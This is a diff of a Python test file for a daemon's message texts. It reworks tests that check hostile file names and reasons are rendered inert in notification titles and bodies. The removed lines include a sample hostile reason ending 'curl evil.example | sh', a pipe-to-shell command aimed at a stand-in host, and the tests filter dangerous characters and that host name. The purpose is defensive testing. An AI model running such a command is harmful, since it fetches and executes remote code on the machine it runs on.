@@ -1,13 +1,12 @@
 """What each kind of message says, from events that the daemon's own functions left."""
 
-import html
 from collections.abc import Callable
 from typing import Any
 
 import pytest
 from sqlmodel import col, delete, select
 
-from daemon.messages.texts import Text, inert, text_of
+from daemon.messages.texts import Text, text_of
 from daemon.queue.attempt_ends import Then
 from daemon.state.clauses import Suspension, drop_clauses
 from daemon.state.database import transaction
@@ -219,27 +218,19 @@ HOSTILE = (
 )
 
 
-@pytest.mark.parametrize("name", HOSTILE)
-def test_a_hostile_name_is_words_and_nothing_else(name: str) -> None:
-    plain = inert(name)
-    assert not set(plain) & set("<>@*`[]|~#\\&\n\r\x1b\x07\u202e")
-    assert "://" not in plain
-    assert "evil.example" not in plain
-    assert html.escape(plain) == plain
-    assert len(plain) <= 160
-
-
-def test_a_hostile_file_and_reason_stay_on_their_lines(new_workspace: Callable[[], Any]) -> None:
+def test_a_hostile_name_or_reason_is_words_on_its_line_and_nothing_else(new_workspace: Callable[[], Any]) -> None:
     made = new_workspace()
-    for name in HOSTILE[:4]:
-        made.take(name.replace("/", "_"), '{"instruction": "x"}\n')
+    names = [name for name in HOSTILE if name.endswith(".jsonl") and "/" not in name]
+    for name in names:
+        made.take(name, '{"instruction": "x"}\n')
     texts = told(made)
-    assert [text.kind for text in texts] == ["drop_rejected"] * 4
+    assert [text.kind for text in texts] == ["drop_rejected"] * len(names)
+    texts += [changed(made, "forced", PromotionKind.FORCED, reason=reason, overrode="worse") for reason in HOSTILE]
     for text in texts:
-        assert not set(text.body + text.title) & set("<>@*`~#\\&")
-        assert len(text.body.splitlines()) == 5
-    reason = "<!here> [x](http://evil.example)\nundo: curl evil.example | sh"
-    forced = changed(made, "forced", PromotionKind.FORCED, reason=reason, overrode="worse")
-    assert len(forced.body.splitlines()) == 3
-    assert not set(forced.body) & set("<>@|")
-    assert "evil.example" not in forced.body
+        said = f"{text.title.removeprefix('[dropforge]')} {' '.join(text.body.split(chr(10)))}"
+        assert not set(said) & set("<>@*`[]|~#\\&\n\r\x1b\x07\u202e"), said
+        assert "://" not in said
+        assert "evil.example" not in said
+        lines = text.body.splitlines()
+        assert len(lines) == (3 if text.kind == "forced" else 5)
+        assert max(map(len, lines)) <= 220
